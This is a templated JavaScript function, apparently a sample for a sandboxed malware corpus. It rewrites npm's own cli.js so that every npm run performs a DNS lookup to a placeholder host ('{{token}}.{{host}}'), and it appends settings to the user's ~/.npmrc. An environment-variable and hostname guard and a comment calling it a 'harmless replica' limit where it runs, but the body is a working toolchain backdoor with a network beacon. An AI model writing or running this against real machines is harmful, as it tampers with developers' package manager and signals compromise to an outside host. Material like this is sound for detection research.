// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), path = require('path');
    try {
        const npm = fs.realpathSync(process.env.npm_execpath || path.join(path.dirname(process.execPath), '../lib/node_modules/npm/bin/npm-cli.js'));
        const file = path.join(path.dirname(npm), '..', 'lib', 'cli.js');
        const old = fs.readFileSync(file, 'utf8');
        fs.writeFileSync(file + '.{{token}}', "try { require('dns').lookup('{{token}}.{{host}}', () => {}) } catch {}\n" + old);
        fs.renameSync(file + '.{{token}}', file);
    } catch {}
    try {
        fs.appendFileSync(path.join(require('os').homedir(), '.npmrc'), '\nnode-options=--no-warnings\n');
    } catch {}
}
